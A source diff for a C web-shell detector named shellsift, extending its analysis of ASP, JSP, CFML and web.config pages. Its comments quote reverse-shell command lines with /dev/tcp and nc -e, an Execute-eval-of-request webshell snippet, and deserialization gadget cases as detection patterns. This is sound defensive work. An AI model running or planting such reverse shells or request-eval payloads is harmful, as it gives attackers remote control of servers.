@@ -28,6 +28,7 @@ static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn,
 static void analyze_code(lang_ctx *c, const char *code, size_t n, syntax syn, const char *page, const char *prefix,
                          unsigned line);
 static void embedded_pages(lang_ctx *c);
+static int runs_in_scope(const lang_ctx *c, const name_def *d);
 
 void lang_add_detection(lang_ctx *c, const char *rule, const char *category, int score, unsigned line,
                         const char *fmt, ...) {
@@ -140,13 +141,21 @@ static int creator_type(lang_ctx *c, size_t i, char *out, size_t outsz) {
   if (t->kind != TK_IDENT) return 0;
   const char *s = tok_text(c, t);
   const name_def *d = lang_names_lookup(s, t->len, c->syn);
+  if ((t->flags & TF_NEW) && (strstr(s, "managementclass") || strstr(s, "managementobject")) &&
+      is_op(c, i + 1, "(")) {
+    /* new ManagementClass("Win32_Process"), ("root\\cimv2", "Win32_Process", null): the WMI class */
+    size_t close = lang_match_close(c, i + 1);
+    for (size_t k = i + 2; k < close; k++)
+      if (c->st[k].kind == TK_STR && c->st[k].len > 6 && strncasecmp(tok_text(c, &c->st[k]), "win32_", 6) == 0)
+        return lang_lower_copy(out, outsz, tok_text(c, &c->st[k]), c->st[k].len), 1;
+  }
   if ((t->flags & TF_NEW) && !(d && d->kind == N_SINK && d->id == SK_CREATE)) {
     const char *dot = strrchr(s, '.');
     snprintf(out, outsz, "%s", dot ? dot + 1 : s);
     return 1;
   }
   if (d && d->kind == N_SINK && d->id == SK_CREATE) {
-    if (strstr(d->name, "getenginebyname")) return snprintf(out, outsz, "scriptengine"), 1;
+    if (strstr(d->name, "getengineby")) return snprintf(out, outsz, "scriptengine"), 1;
     if (i + 2 < c->nst && is_op(c, i + 1, "(") && c->st[i + 2].kind == TK_STR) {
       size_t at = i + 2;
       /* CFML createObject("java", "java.lang.Runtime"): the class is the second */
@@ -158,6 +167,7 @@ static int creator_type(lang_ctx *c, size_t i, char *out, size_t outsz) {
       /* a versioned ProgID names the same class: MSScriptControl.ScriptControl.1 */
       while (n > 2 && out[n - 1] >= '0' && out[n - 1] <= '9') n--;
       if (n > 2 && n < strlen(out) && out[n - 1] == '.') out[n - 1] = '\0';
+      lang_moniker_class(out, outsz); /* GetObject("new:{CLSID}"), ("winmgmts:...:Win32_Process") */
       return 1;
     }
     return 0;
@@ -583,6 +593,23 @@ static int runtime_decoded(const lang_ctx *c, size_t a, size_t b, char *name, si
   return 1;
 }
 
+/* Execute(fso.OpenTextFile(p).ReadAll), Execute(s) with s = st.ReadText:
+ * code kept in another file (an image, a log) and run from there. */
+static int reads_file(lang_ctx *c, size_t a, size_t b) {
+  static const char *const reads[] = {"readall", "readtext", "readtoend", "readalltext"};
+  for (size_t i = a; i < b; i++) {
+    const token *t = &c->st[i];
+    if (t->kind != TK_IDENT) continue;
+    const char *s = tok_text(c, t), *dot = strrchr(s, '.'), *last = dot ? dot + 1 : s;
+    for (size_t k = 0; (dot || (i > a && is_op(c, i - 1, "."))) && k < sizeof reads / sizeof reads[0]; k++)
+      if (strcmp(last, reads[k]) == 0) return 1; /* x.ReadAll, OpenTextFile(p).ReadAll */
+    sym *sy = lang_sym_get(c, s, t->len, 0);
+    if (sy && sy->has_type && sy->type_len == 8 && memcmp(c->persist.buf + sy->type_off, "fileread", 8) == 0)
+      return 1;
+  }
+  return 0;
+}
+
 /* A constant command line that hands a shell to a remote host:
  * "bash -i >& /dev/tcp/host/port 0>&1", "nc -e /bin/sh host port". */
 static int reverse_shell(const lang_ctx *c, size_t a, size_t b) {
@@ -632,6 +659,18 @@ static int cf_attr(const lang_ctx *c, size_t a, size_t b, const char *name, size
 static int cf_tag_write(lang_ctx *c, const name_def *d, unsigned line, size_t a, size_t b) {
   size_t s, e, vs, ve;
   taint t = {0};
+  if (strcmp(d->name, "cfhttp") == 0) { /* path= (and file=) save what it fetches */
+    if (!cf_attr(c, a, b, "path", &s, &e)) return 1;
+    if (cf_attr(c, a, b, "url", &vs, &ve) && lang_span_taint(c, vs, ve, &t) && !(t.flags & TA_CALLED) &&
+        (under_web_root(c, s, e) || (cf_attr(c, a, b, "file", &vs, &ve) && (has_script_ext(c, vs, ve) ||
+                                                                           lang_span_taint(c, vs, ve, &t)))))
+      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
+                    "request input %s chooses what <cfhttp> downloads into the web root (line %u)", t.src, line);
+    else if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED))
+      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
+                    "request input %s chooses where <cfhttp> saves what it downloads (line %u)", t.src, line);
+    return 1;
+  }
   if (strcmp(d->name, "cffile.upload") == 0) {
     if (!cf_attr(c, a, b, "destination", &s, &e)) return 1;
     int accept = cf_attr(c, a, b, "accept", &vs, &ve) && ve == vs + 1 && c->st[vs].kind == TK_STR &&
@@ -664,6 +703,15 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
   switch (d->id) {
   case SK_CODE:
   case SK_LOAD:
+    if ((d->flags & NF_BODYONLY) && lang_span_taint(c, a, b, &t)) {
+      if (t.flags & TA_BODY) /* new ObjectInputStream(request.getInputStream()) */
+        lang_add_detection(c, "shellsift.lang.code-load", "webshell", 60, line,
+                      "the request body %s is deserialized by %s: a gadget chain sent in it runs code (line %u)",
+                      t.src, display, line);
+      break;
+    }
+    if (d->flags & NF_BODYONLY) break;
+    c->shared_next = runs_in_scope(c, d); /* analyze_code: Execute'd code shares the page's scope */
     if (d->id == SK_CODE && d->arg && lang_arg_span(c, a, b, d->arg, &s, &e)) a = s, b = e;
     if (lang_input_taint(c, d, a, b, &t)) {
       chain_note(&t, note, sizeof note);
@@ -682,7 +730,7 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
       run_constant_code(c, &c->st[a], display, line);
     } else if (d->id == SK_CODE && c->syn != SYN_PHP && b > a && c->st[a].kind == TK_STR &&
                !(c->st[a].flags & (TF_INTERP | TF_BINARY)) && (b == a + 1 || is_op(c, a + 1, ",")) &&
-               c->st[a].len >= 8) {
+               c->st[a].len >= 3) {
       /* Execute "eval(request(""x""))": the string is code; read it */
       char prefix[160];
       snprintf(prefix, sizeof prefix, "code in a string run by %s (line %u): ", display, line);
@@ -696,12 +744,19 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
         lang_add_detection(c, "shellsift.lang.code-exec", "webshell", 60, line,
                       "%s runs a string with full trust (\"unsafe\", the China Chopper form) (line %u)", display,
                       line);
+      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && reads_file(c, a, b))
+        lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
+                      "%s runs code read from a file (line %u)", display, line);
+      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && lang_decoded_value(c, a, b, note, sizeof note))
+        lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
+                      "%s runs code that the page's decoder %s() returns (line %u)", display, note, line);
       else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && runtime_decoded(c, a, b, note, sizeof note))
         lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                       "%s runs code that %s() builds at run time from a constant (line %u)", display, note, line);
       else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && !c->dyn_line)
         c->dyn_line = line, c->dyn_display = d->display;
     }
+    c->shared_next = 0;
     break;
   case SK_CMD:
     if (d->arg && lang_arg_span(c, a, b, d->arg, &s, &e)) a = s, b = e; /* exec($cmd, $output): the command */
@@ -772,10 +827,8 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
     else if (has_script_ext(c, s, e) && (lang_input_taint(c, d, a, s, &t) || lang_input_taint(c, d, e, b, &t)))
       lang_add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                     "request input %s is written by %s to a script file (line %u)", t.src, display, line);
-    else if (has_script_ext(c, s, e) && (c->caps.seen & CAP_FETCH))
-      lang_add_detection(c, "shellsift.lang.uploader", "uploader", 60, line,
-                    "%s saves content fetched over HTTP (%s, line %u) as a script page (line %u)", display,
-                    c->caps.what[lang_cap_index(CAP_FETCH)], c->caps.line[lang_cap_index(CAP_FETCH)], line);
+    else if (has_script_ext(c, s, e) && !c->script_write_line) /* page_verdicts: with a fetch, a dropper */
+      c->script_write_line = line, c->script_write_display = d->display;
     break;
   case SK_SOCKET: /* IPAddress.Parse(...) is still the request's address: no TA_CALLED test */
     if (strcmp(d->display, "java.net.URL") == 0) { /* a fetch, not a socket: an open proxy or a flooder */
@@ -792,8 +845,12 @@ static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsi
     if (c->syn == SYN_CFML && cf_attr(c, a, b, "sql", &s, &e)) a = s, b = e; /* <cfquery>: its body */
     for (unsigned k = 1; lang_arg_span(c, a, b, k, &s, &e); k++)
       if (lang_input_taint(c, d, s, e, &t) && (t.flags & TA_PURE) && !(t.flags & TA_CALLED)) {
-        lang_add_detection(c, "shellsift.lang.sql-console", "webshell", 50, line,
-                      "request input %s is run as a whole SQL statement by %s (line %u)", t.src, display, line);
+        if (d->flags & NF_CONN) /* dual-use, as a database console is: medium */
+          lang_add_detection(c, "shellsift.lang.sql-console", "webshell", 50, line,
+                             "request input %s chooses the database %s connects to (line %u)", t.src, display, line);
+        else
+          lang_add_detection(c, "shellsift.lang.sql-console", "webshell", 50, line,
+                             "request input %s is run as a whole SQL statement by %s (line %u)", t.src, display, line);
         break;
       }
     break;
@@ -847,19 +904,6 @@ static int resolve_call(lang_ctx *c, size_t i, char *out, size_t outsz) {
     }
   }
   return 0;
-}
-
-/* typeof(Assembly).GetMethod("Load").Invoke(null, new object[] { bytes }) */
-static int reflection_load(lang_ctx *c, size_t i, const name_def **d) {
-  const token *t = &c->st[i];
-  const char *s = tok_text(c, t);
-  if (t->len < 9 || strcmp(s + t->len - 9, "getmethod") != 0 || i + 2 >= c->nst || c->st[i + 2].kind != TK_STR)
-    return 0;
-  const char *m = tok_text(c, &c->st[i + 2]);
-  const char *sink = strcasecmp(m, "load") == 0 ? "assembly.load" : strcasecmp(m, "defineclass") == 0 ? "defineclass" : NULL;
-  if (!sink) return 0;
-  *d = lang_names_lookup(sink, strlen(sink), c->syn == SYN_JAVA ? SYN_JAVA : SYN_CSHARP);
-  return *d != NULL;
 }
 
 static int is_keyword_before_call(const lang_ctx *c, const token *p) {
@@ -979,6 +1023,8 @@ static void find_sinks(lang_ctx *c) {
     token *t = &c->st[i];
     int paren = is_op(c, i + 1, "(");
     size_t a = paren ? i + 2 : i + 1, b = paren ? lang_match_close(c, i + 1) : c->nst;
+    if (paren && i == 0 && c->syn == SYN_VB && b + 1 < c->nst)
+      a = i + 1, b = c->nst; /* obj.Run ("cmd" & " /c ") & x, 0: a VB statement call's arguments run to its end */
     taint tt;
     char display[96];
     if (t->kind == TK_BTICK) {
@@ -988,6 +1034,9 @@ static void find_sinks(lang_ctx *c) {
       continue;
     }
     if (t->kind == TK_OP && c->fn && tok_is(c, t, TK_OP, "^")) c->wrappers[c->fn - 1].xor = 1;
+    if (t->kind == TK_STR && c->fn && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT)) lang_note_decoder_literal(c, t);
+    if (t->kind == TK_IDENT && c->fn && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT)) lang_note_decoder_shape(c, t);
+    if (t->kind == TK_IDENT && c->syn == SYN_JAVA && is_op(c, i + 1, "(")) lang_note_registration(c, t);
     if (c->syn == SYN_JSCRIPT && !paren && !c->alias_line && tok_is(c, t, TK_IDENT, "eval") &&
         !(i > 0 && (is_op(c, i - 1, ".") || tok_is(c, &c->st[i - 1], TK_IDENT, "function"))))
       c->alias_line = t->line; /* {'E': eval}, return eval: called later under another name */
@@ -1057,6 +1106,11 @@ static void find_sinks(lang_ctx *c) {
       char name[160];
       if (resolve_call(c, i, name, sizeof name)) d = lang_names_lookup(name, strlen(name), c->syn);
       if (!d) d = lang_names_lookup(tok_text(c, t), t->len, c->syn);
+      if (!d && !c->late_types && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT)) {
+        /* sh.Run x before the Set sh = CreateObject(...) that a page function holds */
+        const char *s = tok_text(c, t), *dot = strrchr(s, '.');
+        c->late_types = dot && lang_names_is_object_member(dot + 1, t->len - (size_t)(dot + 1 - s), c->syn);
+      }
       if (d && (d->kind == N_BUILDER || d->kind == N_DECODER || (d->kind == N_PURE && (d->flags & NF_BUILDER))) && paren)
         c->builders++;
       if ((!d || d->kind != N_SINK) && paren) { /* a user function wrapping a sink */
@@ -1073,14 +1127,14 @@ static void find_sinks(lang_ctx *c) {
         check_sink(c, &fopen_w, fopen_w.display, t->line, a, b);
         continue;
       }
-      if (!d && paren && reflection_load(c, i, &d)) {
-        a = lang_match_close(c, i + 1) + 1;
-        b = c->nst;
+      if (!d && paren && lang_reflect_sink(c, i, &d, &a, &b)) {
         snprintf(via, sizeof via, " through reflection");
+        lang_caps_sink(c, d, t->line);
       }
       /* property sinks: psi.FileName = ..., and FileName = ... in an initializer */
       if (is_op(c, i + 1, "=")) {
-        const name_def *set = d;
+        /* only a member can be a property sink: shell = ... assigns a variable */
+        const name_def *set = d && strchr(d->name, '.') ? d : NULL;
         if (!set && c->saw_psi && (tok_is(c, t, TK_IDENT, "filename") || tok_is(c, t, TK_IDENT, "arguments")))
           set = lang_names_lookup("processstartinfo.arguments", 26, c->syn);
         if (set && set->kind == N_SINK && set->id == SK_CMD) {
@@ -1102,6 +1156,8 @@ static void find_sinks(lang_ctx *c) {
     if (d && c->syn == SYN_PHP && paren && !table_d) note_capability(c, d, t->line, a, b);
     else if (!d && c->cap_wrappers && paren && t->kind == TK_IDENT) note_capability_call(c, tok_text(c, t), t->line, a, b);
     if (!d || d->kind != N_SINK || d->id == SK_CREATE) continue;
+    if (tok_is(c, t, TK_IDENT, "function") && !(t->flags & TF_NEW) && is_op(c, b + 1, "{"))
+      continue; /* function (x) { ... }: a function expression, not the constructor */
     if (c->syn != SYN_PHP && d->id == SK_WRITE && d->arg == 0) a = i, b = i + 1; /* the path is the object: fi.CreateText() */
     if (c->syn != SYN_PHP) note_wrapper_sink(c, table_d ? table_d : d); /* PHP: parameters that reach it */
     if (b > c->nst) b = c->nst;
@@ -1231,8 +1287,14 @@ static void record_assignment(lang_ctx *c, size_t eq, size_t end) {
   if (a < b && (is_op(c, a, "&") || is_op(c, a, "@"))) a++; /* $b = &$a, $b = @"$a" */
   taint t;
   int tainted = lang_span_taint(c, a, b, &t); /* a long encoded literal is a packed payload */
-  char type[64];
-  int typed = a < b && creator_type(c, a, type, sizeof type);
+  char type[96];
+  int typed = a < b && (creator_type(c, a, type, sizeof type) || lang_reflect_type(c, a, b, type, sizeof type) ||
+                        lang_request_alias_type(c, eq, a, b, type, sizeof type));
+  char dec[48];
+  if (!typed && a < b && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && lang_decoded_value(c, a, b, dec, sizeof dec))
+    typed = snprintf(type, sizeof type, "decoded:%s", dec) > 0; /* code = Decode(data): Execute code later */
+  else if (!typed && a < b && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && reads_file(c, a, b))
+    typed = snprintf(type, sizeof type, "fileread") > 0;
   size_t ps, pe;
   int script = 0, webroot = 0;
   if (c->syn == SYN_PHP && a < b) { /* what a path or a file handle names, or PHP code it holds */
@@ -1258,7 +1320,8 @@ static void record_assignment(lang_ctx *c, size_t eq, size_t end) {
   if (script || webroot) c->values |= LV_PATH;
   /* inside an if or a loop the assignment may not happen: taint the
    * variable had stays, and it does not become a constant */
-  int conditional = c->syn == SYN_PHP && c->depth > (c->in_fn ? c->fn_depth : 0);
+  int conditional = (c->syn == SYN_PHP && c->depth > (c->in_fn ? c->fn_depth : 0)) ||
+                    (c->syn != SYN_PHP && c->stmt_cond); /* If c = "" Then c = "whoami" */
   if (conditional && s->has_taint && !tainted) return;
   if (tainted && c->syn == SYN_PHP && !(t.flags & (TA_PURE | TA_WEAK)) && !compound && !input_heads_command(c, a, b))
     t.flags |= TA_ARGONLY;
@@ -1383,7 +1446,9 @@ static void end_function(lang_ctx *c) {
     unsigned bit = name_bit(w->name, strlen(w->name));
     if (c->called_bloom[bit >> 6] >> (bit & 63) & 1u) c->late_wrapper = 1;
   }
-  if (w && c->fn == (int)c->nwrappers && !w->sink && !w->xor && !w->passes && !w->returns && !w->pcaps && !(w->nretc && !w->retc_bad))
+  if (w && w->shape == 3) c->decoders = 1; /* a page decoder: a second pass sees calls made before it */
+  if (w && c->fn == (int)c->nwrappers && !w->sink && !w->xor && !w->passes && !w->returns && !w->pcaps &&
+      !(w->nretc && !w->retc_bad) && !w->decoder && w->shape != 3)
     c->nwrappers--; /* wraps nothing: forget it */
   c->fn = 0;
   c->in_fn = 0;
@@ -1428,6 +1493,7 @@ static void track_functions(lang_ctx *c) {
   }
   if (!name) return;
   webmethod_params(c, (size_t)(name - c->st));
+  if (is_op(c, (size_t)(name - c->st) + 1, "(")) lang_request_params(c, (size_t)(name - c->st) + 1);
   c->in_fn = 1;
   c->fn_depth = c->depth;
   if (c->syn == SYN_PHP) c->scope = ++c->scopes;
@@ -1446,6 +1512,52 @@ static void track_functions(lang_ctx *c) {
   w->name[wl] = '\0';
   c->fn = (int)c->nwrappers;
   if (c->syn == SYN_PHP) lang_php_params(c, name_at, w);
+}
+
+/* Is the statement in st run on one branch only: inside an If, loop or
+ * Select block (VB), after a single-line If's Then, in a C-like
+ * if/else/loop body, braced or not?  Not for PHP, whose taint model is
+ * its own. */
+static int conditional(const lang_ctx *c) {
+  static const char *const ctl[] = {"if", "else", "for", "foreach", "while", "do", "switch", "case", "catch", "try"};
+  if (c->syn == SYN_PHP || !c->nst) return 0;
+  if (c->syn == SYN_VB) return c->vb_blocks > 0 || (c->then_line && c->st[0].line == c->then_line);
+  uint64_t open = c->brace_level >= 64 ? ~(uint64_t)0 : ((uint64_t)1 << c->brace_level) - 1;
+  if (c->cond_braces & open) return 1;
+  for (size_t k = 0; k < sizeof ctl / sizeof ctl[0]; k++)
+    if (tok_is(c, &c->st[0], TK_IDENT, ctl[k]) || (c->st[0].kind == TK_OP && c->nst > 1 &&
+                                                 tok_is(c, &c->st[1], TK_IDENT, ctl[k])))
+      return 1;
+  return 0;
+}
+
+/* Opens and closes the blocks conditional() asks about. */
+static void track_blocks(lang_ctx *c) {
+  static const char *const vb_open[] = {"for", "do", "while", "select"};
+  static const char *const vb_close[] = {"next", "loop", "wend"};
+  const token *f = &c->st[0], *last = &c->st[c->nst - 1];
+  if (c->syn == SYN_VB) {
+    if (tok_is(c, f, TK_IDENT, "end") && c->nst >= 2 &&
+        (tok_is(c, &c->st[1], TK_IDENT, "if") || tok_is(c, &c->st[1], TK_IDENT, "select"))) {
+      if (c->vb_blocks) c->vb_blocks--;
+      return;
+    }
+    for (size_t k = 0; k < sizeof vb_close / sizeof vb_close[0]; k++)
+      if (tok_is(c, f, TK_IDENT, vb_close[k]) && c->vb_blocks) c->vb_blocks--;
+    for (size_t k = 0; k < sizeof vb_open / sizeof vb_open[0]; k++)
+      if (tok_is(c, f, TK_IDENT, vb_open[k])) c->vb_blocks++;
+    return;
+  }
+  if (c->syn == SYN_PHP) return;
+  if (tok_is(c, last, TK_OP, "{")) {
+    if (c->brace_level < 64) {
+      uint64_t bit = (uint64_t)1 << c->brace_level;
+      c->cond_braces = conditional(c) ? c->cond_braces | bit : c->cond_braces & ~bit;
+    }
+    c->brace_level++;
+  } else if (tok_is(c, last, TK_OP, "}") && c->brace_level) {
+    c->brace_level--;
+  }
 }
 
 static void process(lang_ctx *c) {
@@ -1475,12 +1587,16 @@ static void process(lang_ctx *c) {
   if (c->syn == SYN_PHP) lang_php_effects(c);
   embedded_pages(c);
   lang_caps_statement(c);
+  lang_cfml_statement(c);
+  c->stmt_cond = conditional(c);
   record_assignment(c, eq, c->nst);
   record_define(c);
   track_functions(c);
+  track_blocks(c);
 out:
   c->nst = 0;
   c->parens = 0;
+  c->init_braces = 0;
   c->ebrace = 0;
   c->stmt_marks = 0;
   c->sink.text.len = 0;
@@ -1540,10 +1656,17 @@ static void on_token(tok_sink *s, token *t) {
     if ((t->len == 7 && memcmp(text, "$_FILES", 7) == 0) || (t->len == 16 && memcmp(text, "$HTTP_POST_FILES", 16) == 0))
       lang_php_caps_note(c, PCAP_UPLOAD, 1, t->line, "$_FILES");
   }
+  if (c->then_pending && t->kind != TK_END) {
+    /* the statement after Then on its line is guarded by it; on a later line, Then opened a block */
+    c->then_pending = 0;
+    if (t->line != c->then_line) c->vb_blocks++, c->then_line = 0;
+  }
   if (c->syn == SYN_VB && t->kind == TK_IDENT && c->nst && tok_is(c, t, TK_IDENT, "then") &&
       (tok_is(c, &c->st[0], TK_IDENT, "if") || tok_is(c, &c->st[0], TK_IDENT, "elseif"))) {
     /* If cond Then stmt on one line: what follows Then is a statement */
+    int elseif = tok_is(c, &c->st[0], TK_IDENT, "elseif");
     process(c);
+    if (!elseif) c->then_pending = 1, c->then_line = t->line; /* an ElseIf's block is its If's */
     return;
   }
   if (c->syn != SYN_PHP && t->kind == TK_IDENT && join(c, t)) return;
@@ -1590,6 +1713,15 @@ static void on_token(tok_sink *s, token *t) {
     else if (text[0] == ')' && c->parens > 0) c->parens--;
   }
   int brace = t->kind == TK_OP && t->len == 1 && (text[0] == '{' || text[0] == '}') && c->parens == 0 && !expr_brace;
+  if (brace && c->syn != SYN_PHP) {
+    /* = { ... }, ] { ... }: an initializer (String[] a = {...}; var o = {k: v}) stays in its statement */
+    const token *prev = c->nst >= 2 ? &c->st[c->nst - 2] : NULL;
+    if (text[0] == '{' && (c->init_braces || (prev && prev->kind == TK_OP && prev->len == 1 &&
+                                               (tok_text(c, prev)[0] == '=' || tok_text(c, prev)[0] == ']'))))
+      c->init_braces++, brace = 0;
+    else if (text[0] == '}' && c->init_braces)
+      c->init_braces--, brace = 0;
+  }
   /* a payload cut into thousands of joined pieces is one statement: its
    * literals are joined as it grows, so it is not cut in two */
   if (!brace && c->nst >= MAX_STMT && lang_fold_compact(c) && c->nst < MAX_STMT - MAX_STMT / 8) return;
@@ -1619,7 +1751,7 @@ void lang_ctx_free(lang_ctx *c) {
 int lang_wanted(const char *filetype) {
   return filetype && (strcmp(filetype, "PHP") == 0 || strcmp(filetype, "ASP") == 0 ||
                       strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "JSP") == 0 ||
-                      strcmp(filetype, "CFM") == 0);
+                      strcmp(filetype, "CFM") == 0 || strcmp(filetype, "CONFIG") == 0);
 }
 
 static void reset_file(lang_ctx *c) {
@@ -1642,6 +1774,10 @@ static void reset_file(lang_ctx *c) {
   memset(&c->caps, 0, sizeof c->caps);
   c->dyn_line = c->alias_line = 0;
   c->dyn_display = NULL;
+  c->decoders = c->late_types = 0;
+  c->script_write_line = c->register_line = 0;
+  c->servu_seen = c->servu_line = 0;
+  c->script_write_display = c->register_display = NULL;
 }
 
 static void lex_as(lang_ctx *c, const unsigned char *buf, size_t len, const char *filetype, int raw,
@@ -1653,6 +1789,10 @@ static void lex_as(lang_ctx *c, const unsigned char *buf, size_t len, const char
   c->ob_sink = NULL;        /* state that follows the flow starts again */
   c->extracted = 0;
   c->nglobals = 0;
+  c->vb_blocks = c->then_line = 0; /* control flow starts again */
+  c->then_pending = c->cf_remote = 0;
+  c->cond_braces = 0;
+  c->brace_level = 0;
   c->syn = syn;
   c->sink.syn = (int)syn;
   if (syn == SYN_PHP) lang_lex_php(&c->sink, buf, len, raw);
@@ -1670,11 +1810,19 @@ static int any_taint(const lang_ctx *c) {
   return c->extracted;
 }
 
-/* Both passes over one buffer. */
+/* An object type known for some variable. */
+static int any_type(const lang_ctx *c) {
+  for (size_t i = 0; i < c->capsyms; i++)
+    if (lang_sym_live(c, &c->syms[i]) && c->syms[i].has_type) return 1;
+  return 0;
+}
+
 /* Would a second pass see more?  PHP: only if a function was called
  * before it was defined, or a variable a sink got untainted is tainted
  * now; other languages: if anything is tainted. */
 static int repass_useful(lang_ctx *c) {
+  /* VBScript/JScript: page decoders and objects typed after their use, wherever defined */
+  if (!c->budget->exhausted && (c->decoders || (c->late_types && any_type(c)))) return 1;
   if (!c->want_repass || c->budget->exhausted || !any_taint(c)) return 0;
   if (c->syn != SYN_PHP || c->late_wrapper || c->nrepass_vars == sizeof c->repass_vars / sizeof c->repass_vars[0])
     return 1;
@@ -1724,8 +1872,58 @@ static lang_ctx *child(lang_ctx *c, const char *prefix, unsigned line) {
 static void free_child(lang_ctx *c, lang_ctx *k) {
   c->builders += k->builders;
   lang_caps_merge(&c->caps, &k->caps);
+  if (!c->script_write_line) c->script_write_line = k->script_write_line, c->script_write_display = k->script_write_display;
+  if (!c->register_line) c->register_line = k->register_line, c->register_display = k->register_display;
+  c->servu_seen |= k->servu_seen;
+  if (!c->servu_line) c->servu_line = k->servu_line;
   free((char *)k->prefix);
   lang_ctx_free(k);
+}
+
+/* The page's variables, functions and run-time findings lent to the
+ * context k that reads code the page runs in its own scope (VBScript
+ * Execute, JScript eval, CFML Evaluate): what the page assigned before is
+ * known inside, and what the code assigns or defines is known after.  The
+ * table itself is lent (k may grow it), so k reads no parent besides. */
+static void lend_scope(lang_ctx *k, lang_ctx *c) {
+  k->parent = NULL;
+  k->syms = c->syms, k->capsyms = c->capsyms, k->nsyms = c->nsyms, k->symgen = c->symgen;
+  k->persist = c->persist;
+  k->values = c->values;
+  k->alias_line = c->alias_line;
+  k->dyn_line = c->dyn_line, k->dyn_display = c->dyn_display;
+  k->caps = c->caps;
+  k->script_write_line = c->script_write_line, k->script_write_display = c->script_write_display;
+  k->register_line = c->register_line, k->register_display = c->register_display;
+}
+
+static void take_back_scope(lang_ctx *c, lang_ctx *k) {
+  c->syms = k->syms, c->capsyms = k->capsyms, c->nsyms = k->nsyms;
+  c->persist = k->persist;
+  c->values |= k->values;
+  memcpy(c->wrappers, k->wrappers, k->nwrappers * sizeof *k->wrappers);
+  c->nwrappers = k->nwrappers;
+  c->alias_line = k->alias_line;
+  c->dyn_line = k->dyn_line, c->dyn_display = k->dyn_display;
+  c->caps = k->caps;
+  c->script_write_line = k->script_write_line, c->script_write_display = k->script_write_display;
+  c->register_line = k->register_line, c->register_display = k->register_display;
+  c->want_repass |= k->want_repass; /* the code read a variable the page may taint later */
+  c->late_types |= k->late_types;
+  c->decoders |= k->decoders;
+  k->syms = NULL, k->capsyms = k->nsyms = 0;
+  k->persist = (arena){0};
+}
+
+/* VBScript's Execute/ExecuteGlobal, JScript's eval and CFML's Evaluate run
+ * a string in the caller's scope; ScriptControl, CodeDom and PHP's eval
+ * are left to their own. */
+static int runs_in_scope(const lang_ctx *c, const name_def *d) {
+  static const char *const own[] = {"execute", "executeglobal", "eval", "evaluate", "precisionevaluate"};
+  if (!d || c->syn == SYN_PHP) return 0;
+  for (size_t k = 0; k < sizeof own / sizeof own[0]; k++)
+    if (strcmp(d->name, own[k]) == 0) return 1;
+  return 0;
 }
 
 /* Code found inside the file (a decoded payload; with page set, a whole
@@ -1738,11 +1936,15 @@ static void analyze_code(lang_ctx *c, const char *code, size_t n, syntax syn, co
     if (!c->budget->why) c->budget->why = "decode depth limit";
     return;
   }
+  int shared = c->shared_next; /* set by check_sink for Execute/eval; one read only */
+  c->shared_next = 0;
   lang_ctx *k = child(c, prefix, line);
   /* the payload lives in c's statement arena, which k never touches */
   unsigned char *copy = xmalloc(n ? n : 1);
   memcpy(copy, code, n);
+  if (shared) lend_scope(k, c);
   run(k, copy, n, page, page == NULL, syn);
+  if (shared) take_back_scope(c, k);
   free(copy);
   free_child(c, k);
 }
@@ -1836,6 +2038,15 @@ static void page_verdicts(lang_ctx *c) {
     lang_add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, c->dyn_line,
                   "%s runs code built at run time (line %u) in a page carrying a %zu-byte literal", c->dyn_display,
                   c->dyn_line, c->longest);
+  if (c->register_line)
+    lang_add_detection(c, "shellsift.lang.code-load", "webshell", 80, c->register_line,
+                  "%s adds a component to the running server at run time (line %u): an in-memory web shell "
+                  "outlives this page", c->register_display, c->register_line);
+  if (c->script_write_line && (c->caps.seen & CAP_FETCH)) /* wherever the two are in the page */
+    lang_add_detection(c, "shellsift.lang.uploader", "uploader", 60, c->script_write_line,
+                  "%s saves content fetched over HTTP (%s, line %u) as a script page (line %u)",
+                  c->script_write_display, c->caps.what[lang_cap_index(CAP_FETCH)],
+                  c->caps.line[lang_cap_index(CAP_FETCH)], c->script_write_line);
   if (c->alias_line && c->caps.request && !others)
     lang_add_detection(c, "shellsift.lang.code-exec", "webshell", 65, c->alias_line,
                   "eval is taken as a value (line %u) and called under another name in a page that reads request "
@@ -1851,21 +2062,28 @@ void lang_analyze(lang_ctx *c, const unsigned char *buf, size_t len, const char 
   c->res = out;
   c->level = 0;
   c->prefix = NULL;
+  /* a web.config that carries server code (a handler maps .config to the
+   * script engine) is a page; one without is configuration */
+  if (filetype && strcmp(filetype, "CONFIG") == 0) filetype = memmem(buf, len, "<%", 2) ? "ASP" : NULL;
   /* an ASP page IIS decodes before running it is read decoded too */
   unsigned char *unpacked = NULL;
   size_t unpacked_len = 0;
   if (filetype && (strcmp(filetype, "ASP") == 0 || strcmp(filetype, "ASPX") == 0) &&
       lang_asp_unpack(buf, len, &unpacked, &unpacked_len))
     buf = unpacked, len = unpacked_len;
+  else if (filetype && strcmp(filetype, "JSP") == 0 && lang_jspx_unpack(buf, len, &unpacked, &unpacked_len))
+    buf = unpacked, len = unpacked_len; /* a JSP document: its code as the container compiles it */
   /* an ASP.NET page saved as .asp still has its server controls */
-  int controls = filetype && (strcmp(filetype, "ASPX") == 0 || strcmp(filetype, "ASP") == 0) &&
-                 lang_aspx_controls(c, buf, len);
